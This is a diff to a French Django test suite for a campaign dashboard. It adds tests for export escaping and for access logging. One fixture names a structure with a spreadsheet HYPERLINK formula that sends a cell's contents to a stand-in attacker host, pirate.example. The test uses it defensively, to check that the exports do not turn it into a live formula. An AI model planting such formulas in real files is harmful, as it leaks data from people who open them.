@@ -1,6 +1,7 @@
 import datetime
 import io
 import re
+import zipfile
 from html import unescape
 
 import pytest
@@ -134,7 +135,9 @@ def test_the_dashboard_runs_a_bounded_number_of_queries(
         reponse_deposee(campagne, StructureFactory(), E01=3, E02=9.0)
     controle_lancer(campagne=campagne)
     client.force_login(correspondant_69)
-    with django_assert_max_num_queries(14):  # indépendant du nombre de structures et d'anomalies
+    # Indépendant du nombre de structures et d'anomalies ; 6 requêtes écrivent le journal des accès (les
+    # messages des anomalies citent des valeurs brutes), 1 lit l'appareil du second facteur de la session.
+    with django_assert_max_num_queries(21):
         assert client.get(url("tableau_de_bord")).status_code == 200
 
 
@@ -476,3 +479,32 @@ def test_the_dashboard_offers_a_button_that_runs_the_check_in_the_background_not
     assert Signalement.objects.filter(reponse__structure=structure_69, code="R01").exists()  # tâche exécutée
     client.force_login(national)
     assert client.post(url("lancer")).status_code == 403
+# --- Exports sans formule (issue 12) ---
+
+
+def test_a_structure_named_like_a_formula_stays_text_in_both_exports(client, correspondant_69, campagne):
+    structure = StructureFactory(nom='=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")')
+    reponse_deposee(campagne, structure, E01=3, E02=9.0)
+    client.force_login(correspondant_69)
+
+    classeur = client.get(url("exporter", "xlsx")).content
+    with zipfile.ZipFile(io.BytesIO(classeur)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+    feuille = CalamineWorkbook.from_filelike(io.BytesIO(classeur)).get_sheet_by_index(0).to_python()
+    assert structure.nom in [ligne[1] for ligne in feuille]
+
+    lignes = client.get(url("exporter", "csv")).content.decode("utf-8-sig").splitlines()
+    ligne = next(ligne for ligne in lignes if "HYPERLINK" in ligne)
+    assert ";\"'=HYPERLINK(" in ligne
+
+
+def test_the_anomaly_list_quotes_raw_values_so_showing_it_is_logged(client, correspondant_69, reponses):
+    from senacs.journal.models import AccesDonnees, Nature
+
+    client.force_login(correspondant_69)
+    page = texte(client.get(url("tableau_de_bord")))
+    r69, _ = reponses
+    assert r69.structure.nom in page
+    acces = AccesDonnees.objects.get()
+    assert acces.nature == Nature.CONTROLE and acces.utilisateur == correspondant_69
+    assert list(acces.structures_consultees.values_list("structure_id", flat=True)) == [r69.structure_id]
